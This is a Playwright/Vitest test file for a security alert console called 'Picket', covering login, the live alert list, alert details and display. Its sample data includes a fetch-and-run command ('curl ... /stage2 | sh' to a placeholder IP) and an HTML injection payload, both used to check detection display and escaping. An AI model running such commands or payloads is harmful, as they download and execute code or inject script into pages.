// Size: the cases of one page; they share one built console and one browser, which are slow to make.
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { TOKEN } from './console-fake-api.ts';
import { ConsoleHarness, type VisitOptions } from './console-harness.ts';
import { extraAlert, sampleAlerts } from './console-sample-alerts.ts';

const SETTLE = { timeout: 15_000 };
let opening: Promise<ConsoleHarness> | undefined;
let harness: ConsoleHarness;

beforeAll(async () => {
  opening = ConsoleHarness.open();
  harness = await opening;
});

// Also a harness that was ready only after the hook above gave up; one that failed has been reported there.
afterAll(() =>
  opening?.then(
    (opened) => opened.close(),
    () => undefined,
  ),
);

beforeEach(() => harness.begin());

afterEach(async () => {
  expect(await harness.end()).toEqual([]);
});

const visit = (path?: string, options?: VisitOptions) => harness.visit(path, options);
const rows = (page: Page) => page.locator('[data-alert]');
const detail = (page: Page) => page.getByRole('region', { name: 'Alert', exact: true });
const live = (page: Page) => page.getByRole('status').filter({ hasText: /^Live$/ });
const uuid = (n: number) => sampleAlerts(0)[n - 1]?.uuid ?? '';
const overflow = (page: Page) => page.evaluate<number>('document.documentElement.scrollWidth - innerWidth');
const queryOf = (page: Page) => Object.fromEntries(new URL(page.url()).searchParams);

describe('the built page', () => {
  it('has hashed files, no inline script, and is small', async () => {
    const html = await readFile(join(harness.folder, 'index.html'), 'utf8');
    expect(html).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>/);
    const assets = await readdir(join(harness.folder, 'assets'));
    for (const name of assets) expect(name).toMatch(/-[\w-]{8}\.(js|css)$/);
    const sizes = await Promise.all(
      assets.map(async (name) => (await readFile(join(harness.folder, 'assets', name))).length),
    );
    // what every page needs, and what comes with one when it is opened
    const first = sizes.filter((_, i) => html.includes(assets[i] ?? ''));
    expect(first.reduce((sum, size) => sum + size, 0)).toBeLessThan(900_000);
    for (const [i, size] of sizes.entries())
      if (!html.includes(assets[i] ?? '')) expect(size, assets[i]).toBeLessThan(80_000);
  });

  it('keeps to the security policy and fetches from nowhere else', async () => {
    const page = await visit(`/alerts/${uuid(3)}`);
    await detail(page).getByRole('tab', { name: 'JSON' }).click();
    await detail(page).getByRole('tab', { name: 'Fields' }).click();
    await page.getByRole('button', { name: 'Language' }).click();
    await page.getByRole('menuitemradio', { name: 'English' }).click();
    await live(page).waitFor();
    expect(harness.complaints).toEqual([]);
  });
});

describe('signing in', () => {
  it('refuses a wrong token, takes the right one, and goes where the reader wanted to go', async () => {
    const page = await visit(`/alerts/${uuid(2)}?priority=Warning`, { signedIn: false });
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByText('Paste your access token.').waitFor();
    await page.getByLabel('Access token', { exact: true }).fill('pkt_wrong');
    await page.keyboard.press('Enter');
    await page.getByText('This token is not valid').waitFor();
    await page.getByLabel('Access token', { exact: true }).fill(` ${TOKEN}\n`);
    await page.keyboard.press('Enter');
    await detail(page).getByRole('heading', { name: 'Reverse shell by a network tool' }).waitFor();
    expect(queryOf(page)).toEqual({ priority: 'Warning' });
    expect(await page.evaluate('JSON.stringify([localStorage, sessionStorage, document.cookie])')).not.toContain(TOKEN);
  });

  it('signs out, and notices a session that ended', async () => {
    const page = await visit();
    await page.getByRole('button', { name: 'Session and help' }).click();
    await page.getByRole('menuitem', { name: 'Sign out' }).click();
    await page.waitForURL('**/login');
    expect(harness.api.sessions.size).toBe(0);
    await page.getByLabel('Access token', { exact: true }).fill(TOKEN);
    await page.keyboard.press('Enter');
    await rows(page).first().waitFor();
    harness.api.sessions.clear();
    await page.getByRole('searchbox').or(page.getByLabel('Search alerts')).first().fill('shell');
    await page.getByText('Your session has ended').waitFor();
    expect(queryOf(page)).toEqual({ next: '/alerts?q=shell' });
  });
});

describe('the list', () => {
  it('shows what comes and what changes, and stands still when paused', async () => {
    const page = await visit();
    await live(page).waitFor();
    expect(await rows(page).count()).toBe(9);
    const first = extraAlert(1, Date.now());
    harness.api.publish(first);
    await rows(page).nth(9).waitFor();
    expect(await rows(page).first().getAttribute('data-alert')).toBe(first.uuid);
    harness.api.publish({ ...first, revision: 2, count: 5 });
    await rows(page).first().getByText('×5').waitFor();

    await page.keyboard.press('p');
    harness.api.publish(extraAlert(2, Date.now()));
    harness.api.publish(extraAlert(3, Date.now()));
    await page.getByRole('button', { name: '2 new' }).waitFor();
    expect(await page.title()).toContain('(2)');
    expect(await rows(page).count()).toBe(10);
    await page.getByRole('button', { name: '2 new' }).click();
    await rows(page).nth(11).waitFor();
    harness.api.publish(extraAlert(4, Date.now()));
    await page.getByRole('button', { name: '1 new' }).waitFor();
    await page.getByRole('button', { name: 'Resume' }).click();
    await rows(page).nth(12).waitFor();
  });

  it('holds new alerts back while the reader has scrolled down, and loads older ones', async () => {
    harness.api.pageSize = 5;
    const page = await visit('/alerts', { viewport: { width: 390, height: 500 } });
    await live(page).waitFor();
    expect(await rows(page).count()).toBe(5);
    await page.getByRole('button', { name: 'Load older alerts' }).click();
    await page.getByText('These are all alerts.').waitFor();
    await page.evaluate('window.scrollTo(0, 400)');
    await page.getByText('Live, on hold').waitFor();
    harness.api.publish(extraAlert(1, Date.now()));
    await page.getByRole('button', { name: '1 new' }).click();
    await rows(page).nth(9).waitFor();
    expect(await page.evaluate('window.scrollY')).toBe(0);
  });

  it('keeps its filters in the address, for stored and for live alerts', async () => {
    const page = await visit();
    await live(page).waitFor();
    await page.getByLabel('Minimum severity').selectOption('Error');
    await expect.poll(() => rows(page).count(), SETTLE).toBe(4);
    await page.keyboard.press('/');
    await page.getByLabel('Search alerts').fill('reverse SHELL');
    await expect.poll(() => rows(page).count(), SETTLE).toBe(1);
    expect(queryOf(page)).toEqual({ priority: 'Error', q: 'reverse SHELL' });
    harness.api.publish(extraAlert(1, Date.now()));
    harness.api.publish({ ...extraAlert(2, Date.now()), output: 'A reverse shell again' });
    await rows(page).nth(1).waitFor();
    await page.reload();
    await rows(page).nth(1).waitFor();
    expect(await rows(page).count()).toBe(2);
    await page.getByRole('button', { name: 'Clear filters' }).last().click();
    await expect.poll(() => rows(page).count(), SETTLE).toBe(11);
    expect(queryOf(page)).toEqual({});
    await page.getByRole('combobox', { name: 'Rule' }).click();
    await page.getByRole('option', { name: 'Probe self test' }).click();
    await expect.poll(() => rows(page).count(), SETTLE).toBe(1);
    expect(queryOf(page)).toEqual({ rule: 'Probe self test' });
  });

  it('says what to do when there is nothing', async () => {
    harness.api.alerts = [];
    const page = await visit();
    await page.getByText('npm run demo').waitFor();
    harness.api.nodes = [];
    await page.reload();
    await page.getByText('No node is reporting yet.').waitFor();
    await page.goto(`${harness.api.url}/alerts?q=nothing`);
    await page.getByText('No alert matches the filters').waitFor();
  });

  it('can be used with the keyboard alone', async () => {
    const page = await visit();
    await rows(page).first().waitFor();
    await page.keyboard.press('j');
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    await detail(page).getByRole('heading', { name: 'Reverse shell by a network tool' }).waitFor();
    await page.keyboard.press('j');
    await detail(page).getByRole('heading', { name: 'Executed a file' }).waitFor();
    expect(page.url()).toContain(uuid(3));
    await page.keyboard.press('k');
    await detail(page).getByRole('heading', { name: 'Reverse shell by a network tool' }).waitFor();
    await page.keyboard.press('Escape');
    await page.waitForURL('**/alerts');
    expect(await page.evaluate('document.activeElement.dataset.alert')).toBe(uuid(2));
    await page.keyboard.press('/');
    await page.keyboard.type('jk?');
    expect(await page.getByLabel('Search alerts').inputValue()).toBe('jk?');
    await page.keyboard.press('Escape');
    await page.keyboard.press('?');
    await page.getByRole('dialog').getByText('Next / previous row').waitFor();
  });
});

describe('an alert', () => {
  it('shows hostile text as text', async () => {
    const page = await visit(`/alerts/${uuid(3)}`);
    const tree = detail(page).getByRole('region', { name: 'Process' });
    await tree.getByText('caused the alert').waitFor();
    const text = (await tree.textContent()) ?? '';
    for (const visible of ['\\u202e', '\\x1b', '\\x07', '\\u200b', '\\n', '<img src=x onerror=window.hacked=1>']) {
      expect(text).toContain(visible);
    }
    const all = String(await page.evaluate('document.body.textContent'));
    for (const hidden of ['\u202e', '\u200b', '\u001b', '\u0007']) expect(all).not.toContain(hidden);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
  });

  it('shows the ancestors, the oldest first, and says what was lost', async () => {
    const page = await visit(`/alerts/${uuid(2)}`);
    const tree = detail(page).getByRole('region', { name: 'Process' });
    await tree.getByText('caused the alert').waitFor();
    expect(await tree.locator('li strong').allTextContents()).toEqual(['systemd', 'containerd-shim', 'nginx', 'sh']);
    await detail(page).getByText('1,852 events were lost around this alert.').waitFor();
    await detail(page).getByText('kernel buffer full').waitFor();
    const link = detail(page).getByRole('link', { name: 'T1059.004' });
    expect(await link.getAttribute('href')).toBe('https://attack.mitre.org/techniques/T1059/004/');
    expect(await link.getAttribute('rel')).toContain('noopener');
  });

  it('unfolds the older ancestors of a deep tree', async () => {
    const page = await visit(`/alerts/${uuid(3)}`);
    const lines = detail(page).getByRole('region', { name: 'Process' }).locator('li');
    await detail(page).getByText('Show 6 older ancestors').click();
    expect(await lines.count()).toBe(14);
    expect(await lines.first().textContent()).toContain('systemd');
  });

  it('finds fields and copies them without anything invisible', async () => {
    const page = await visit(`/alerts/${uuid(3)}`, { permissions: ['clipboard-read', 'clipboard-write'] });
    await detail(page).getByRole('tab', { name: 'Fields' }).click();
    await detail(page).getByLabel('Search fields').fill('cmdline curl');
    await detail(page).getByRole('button', { name: 'Copy proc.cmdline' }).click();
    await detail(page).getByRole('button', { name: 'Copied' }).waitFor();
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe(
      'sh -c curl -fsSL http://203.0.113.7/stage2 | sh',
    );
    expect(await detail(page).getByRole('row').filter({ hasText: 'evt.type' }).count()).toBe(0);
    await detail(page).getByRole('tab', { name: 'JSON' }).click();
    const json = (await detail(page).locator('pre').textContent()) ?? '';
    expect(JSON.parse(json)).toEqual(harness.api.alerts[2]);
  });

  it('narrows the list to its rule and stays open', async () => {
    const page = await visit(`/alerts/${uuid(1)}`);
    await detail(page).getByRole('button', { name: 'Show only Terminal shell in container' }).click();
    await expect.poll(() => rows(page).count(), SETTLE).toBe(1);
    expect(new URL(page.url()).pathname).toBe(`/alerts/${uuid(1)}`);
  });

  it('goes back to the list it was opened from, and never out of the console', async () => {
    const page = await visit('/login?next=/alerts%3Fq%3Dshell');
    await rows(page).nth(1).click();
    await detail(page).getByRole('button', { name: 'Close' }).click();
    await page.waitForURL('**/alerts?q=shell');
    expect(await page.evaluate('history.length')).toBe(3);
    await page.goto(`${harness.api.url}/alerts/${uuid(1)}`);
    await rows(page).nth(3).click();
    await detail(page).getByRole('heading', { name: 'Contact cloud metadata' }).waitFor();
    await page.keyboard.press('Escape');
    await page.waitForURL(`${harness.api.url}/alerts`);
    await rows(page).first().waitFor();
  });

  it('says so when it does not exist', async () => {
    const page = await visit('/alerts/018f3a2c-7b1d-5e6f-8a9b-ffffffffffff');
    await detail(page).getByText('This alert does not exist').waitFor();
  });
});

describe('the detectors', () => {
  it('say how to make one when there is none, and keep the page live', async () => {
    const page = await visit('/detectors');
    await page.getByText('npm run picket -- detectors init').waitFor();
    await live(page).waitFor();
    await page.getByRole('link', { name: 'Alerts', exact: true }).click();
    await rows(page).nth(8).waitFor();
    harness.api.publish(extraAlert(1, Date.now()));
    await rows(page).nth(9).waitFor();
  });

  it('say so when they can not be loaded, and when there is no such one', async () => {
    harness.api.broken = true;
    const page = await visit('/detectors');
    await page.getByText('The detectors could not be loaded.').waitFor();
    harness.api.broken = false;
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.getByText('No detectors yet').waitFor();
    await page.goto(`${harness.api.url}/detectors/nothing`);
    await page.getByText('There is no such detector').waitFor();
  });
});

describe('a broken connection', () => {
  it('is said, and nothing is missed when it is back', async () => {
    const page = await visit();
    await live(page).waitFor();
    harness.api.publish(extraAlert(1, Date.now()));
    await rows(page).nth(9).waitFor();
    await harness.api.stop();
    await page.getByText('Picket can not be reached.').waitFor();
    expect(await rows(page).count()).toBe(10);
    harness.api.publish(extraAlert(2, Date.now()));
    await harness.api.start();
    await live(page).waitFor();
    await rows(page).nth(10).waitFor();
    expect(await page.getByText('Picket can not be reached.').count()).toBe(0);
    expect(harness.api.streamStarts.at(-1)).toBe('1');
  });
});

describe('looks', () => {
  it.each(['light', 'dark'] as const)('follow the system: %s, every severity readable', async (colorScheme) => {
    const page = await visit('/alerts', { colorScheme });
    await rows(page).first().waitFor();
    expect(await page.locator('html').getAttribute('data-mantine-color-scheme')).toBe(colorScheme);
    const ratios = await page.evaluate<[string, number][]>(CONTRAST);
    expect(new Set(ratios.map(([name]) => name)).size).toBe(8);
    for (const [name, ratio] of ratios) expect(ratio, name).toBeGreaterThan(4.5);
  });

  it('keep the choice of the reader', async () => {
    const page = await visit('/alerts', { colorScheme: 'light' });
    await page.getByRole('button', { name: 'Appearance' }).click();
    await page.getByRole('menuitemradio', { name: 'Dark' }).click();
    await page.getByRole('button', { name: 'Language' }).click();
    await page.getByRole('menuitemradio', { name: '简体中文' }).click();
    await page.reload();
    await page.getByRole('heading', { name: '告警' }).waitFor();
    expect(await page.locator('html').getAttribute('data-mantine-color-scheme')).toBe('dark');
    expect(await page.locator('html').getAttribute('lang')).toBe('zh-CN');
  });

  it('begin in the language of the browser', async () => {
    const page = await visit('/login', { locale: 'zh-CN', signedIn: false });
    await page.getByRole('heading', { name: '登录 Picket' }).waitFor();
  });

  it('fit a phone without scrolling sideways', async () => {
    const page = await visit('/alerts', { viewport: { width: 390, height: 844 } });
    await rows(page).first().waitFor();
    expect(await overflow(page)).toBe(0);
    await page.getByRole('button', { name: 'Filters' }).click();
    expect(await overflow(page)).toBe(0);
    for (const row of [1, 2]) {
      await rows(page).nth(row).click();
      for (const tab of ['Overview', 'Fields', 'JSON']) {
        await detail(page).getByRole('tab', { name: tab }).click();
        expect(await overflow(page), tab).toBe(0);
        expect(await page.evaluate(PANEL_OVERFLOW), tab).toBe(0);
      }
      await detail(page).getByRole('button', { name: 'Back to the list' }).click();
      await page.waitForURL('**/alerts');
    }
  });
});

const PANEL_OVERFLOW = `(() => { const panel = document.querySelector('[data-cover]');
  return panel.scrollWidth - panel.clientWidth; })()`;

/** Contrast of each severity's name against its ground, by the formula of WCAG 2.2. */
const CONTRAST = `(() => {
  const channels = (text) => text.match(/[\\d.]+/g).map(Number);
  const linear = (c) => (c /= 255) <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
  const luminance = ([r, g, b]) => 0.2126 * linear(r) + 0.7152 * linear(g) + 0.0722 * linear(b);
  return [...document.querySelectorAll('[data-priority]')].map((mark) => {
    const style = getComputedStyle(mark);
    const [a, b] = [style.color, style.backgroundColor].map((text) => luminance(channels(text)));
    return [mark.dataset.priority, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)];
  });
})()`;
